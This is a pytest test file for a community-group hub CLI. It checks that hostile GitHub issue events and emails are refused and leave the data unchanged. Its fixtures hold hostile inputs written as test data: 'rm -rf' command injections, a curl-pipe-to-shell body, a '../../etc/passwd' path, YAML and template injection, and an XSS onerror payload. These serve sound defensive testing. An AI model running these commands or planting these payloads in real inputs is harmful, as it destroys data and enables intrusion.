"""`./hub intake` and `./hub issue-to-change`, on a copy of the tiny hub: hostile input changes not a byte."""

from __future__ import annotations

import json
import re
import shutil
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from peerhub.cli import ENGINE, Place, main
from peerhub.intake.event import read_event
from peerhub.intake.letter import letter_text
from peerhub.intake.quoting import block, code
from peerhub.problems import Problems

TINY = Path(__file__).parents[1] / "sites" / "tiny"
ENVIRONMENT = {"SOURCE_DATE_EPOCH": "1795521600"}
AGREED = "### Before you send it\n\n- [X] I write about a group.\n"
ROOM = f"### Which group has changed\n\nevening-circle\n\n### Building or room\n\n{{}}\n\n{AGREED}"
CLOSED = f"### Which group has closed\n\nEvening Circle\n\n### Day it closed\n\n2026-10-31\n\n{AGREED}"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "hub"
    shutil.copytree(TINY, folder, ignore=shutil.ignore_patterns(".cache"))
    return folder


def hub(root: Path, *arguments: str) -> Result:
    return CliRunner().invoke(main, ["--root", str(root), *arguments], env=ENVIRONMENT, obj=Place(root, ENGINE))


def tree(root: Path) -> dict[str, bytes]:
    return {path.relative_to(root).as_posix(): path.read_bytes() for path in root.rglob("*") if path.is_file()}


def event(body: Any, **changes: Any) -> bytes:
    return json.dumps({"action": "labeled", "issue": {"number": 12, "body": body, **changes}}).encode()


def test_an_issue_becomes_a_change_and_a_report(root: Path, tmp_path: Path) -> None:
    """The line is written, and the report names the issue that it answers."""
    (tmp_path / "event.json").write_bytes(event(CLOSED))
    done = hub(root, "issue-to-change", str(tmp_path / "event.json"), "--report", str(tmp_path / "report.md"))
    assert done.exit_code == 0, done.output
    assert b"\n  closed: 2026-10-31\n" in tree(root)["data/groups.yaml"]
    report = (tmp_path / "report.md").read_text("utf-8")
    assert "Closes #12." in report
    assert "`Evening Circle` has closed" in report


def test_an_email_as_a_mail_program_saves_it(root: Path, tmp_path: Path) -> None:
    """Long lines that a mail program broke are whole again, and its headers are no answers."""
    message = EmailMessage()
    message["From"], message["Subject"] = "Sam <sam@private.example>", "Something has changed"
    message.set_content("Hello,\n\nWhich group has changed: Evening\n Circle\nBuilding or room: Café Söder\n")
    (tmp_path / "letter.eml").write_bytes(message.as_bytes())
    done = hub(root, "intake", str(tmp_path / "letter.eml"))
    assert done.exit_code == 0, done.output
    assert "Café Söder".encode() in tree(root)["data/groups.yaml"]
    assert "private.example" not in done.output


EVENTS = {
    "truncated": event(CLOSED)[:-9],
    "empty": b"",
    "a list": b"[]",
    "nested": b"[" * 100_000,
    "not UTF-8": b'{"issue": "\xff"}',
    "no issue": b"{}",
    "no text": event(None),
    "a number for a text": event(7),
    "a text for a number": event(CLOSED, number="12; rm -rf /"),
    "true for a number": event(CLOSED, number=True),
    "a pull request": event(CLOSED, pull_request={}),
    "huge": event("x" * 70_000),
    "no form": event("$(curl https://example.org | sh)"),
    "nobody agreed": event(CLOSED.replace("[X]", "[ ]")),
    "no box": event(CLOSED.replace(AGREED, "")),
    "a strange question": event(CLOSED + "\n### contents\n\nwrite"),
    "answered twice": event(CLOSED + "\n" + CLOSED),
    "a path for a name": event(CLOSED.replace("Evening Circle", "../../etc/passwd")),
    "YAML for a name": event(CLOSED.replace("Evening Circle", "x\n- id: evil\n  kind: group")),
    "a shell for a day": event(CLOSED.replace("2026-10-31", "$(rm -rf ~)`id`")),
    "HTML for a room": event(ROOM.format("<img src=x onerror=alert(1)>")),
    "bidi for a room": event(ROOM.format("Hall\u202e")),
}


@pytest.mark.parametrize("name", EVENTS)
def test_a_hostile_event_changes_nothing(root: Path, tmp_path: Path, name: str) -> None:
    """It is told where and what, without a traceback; the report says the same for the issue."""
    before = tree(root)
    (tmp_path / "event.json").write_bytes(EVENTS[name])
    done = hub(root, "issue-to-change", str(tmp_path / "event.json"), "--report", str(tmp_path / "report.md"))
    assert done.exit_code == 1, done.output
    assert done.exception is None or isinstance(done.exception, SystemExit)
    assert re.search(r"^(event\.json|issue 12)(:\d+)?: error: .+ \[[a-z-]+\]$", done.output, re.MULTILINE), (
        done.output
    )
    assert tree(root) == before
    assert "Nothing was changed." in (tmp_path / "report.md").read_text("utf-8")


def test_yaml_in_an_answer_stays_text(root: Path, tmp_path: Path) -> None:
    """An answer that looks like YAML, a shell or a template is written as the text that it is."""
    evil = 'Hall", country: XX}, closed: 2020-01-01 # {{ 7*7 }} ${{ github.token }} $(id) `id`'
    letter = f"Which group has changed: evening-circle\nBuilding or room: {evil}\n"
    (tmp_path / "letter.txt").write_text(letter, "utf-8")
    done = hub(root, "intake", str(tmp_path / "letter.txt"))
    assert done.exit_code == 0, done.output
    assert json.dumps(evil).encode() in tree(root)["data/groups.yaml"]


def test_a_report_that_cannot_be_written_leaves_the_data(root: Path, tmp_path: Path) -> None:
    """Data and report are written together or not at all."""
    before = tree(root)
    (tmp_path / "event.json").write_bytes(event(CLOSED))
    done = hub(root, "issue-to-change", str(tmp_path / "event.json"), "--report", str(tmp_path / "no" / "report.md"))
    assert done.exit_code == 1
    assert tree(root) == before


@given(st.one_of(st.binary(max_size=200), st.text(max_size=200).map(lambda text: text.encode("utf-8", "replace"))))
def test_any_bytes_are_read_or_refused(raw: bytes) -> None:
    """Any file is a letter or a located problem, and any event too."""
    for read in (letter_text, read_event):
        problems = Problems()
        found = read(raw, "file", problems)
        assert (found is None) == problems.has_errors


@given(st.text(max_size=120))
def test_strangers_words_stay_code(text: str) -> None:
    """No text ends the block or the span of code that it stands in."""
    lines = block(text).split("\n")
    fence = lines[0].removesuffix("text")
    assert lines[-1] == fence
    assert all(fence not in line for line in lines[1:-1])
    span = code(text)
    ticks = re.match("`*", span)
    assert ticks
    assert "\n" not in span
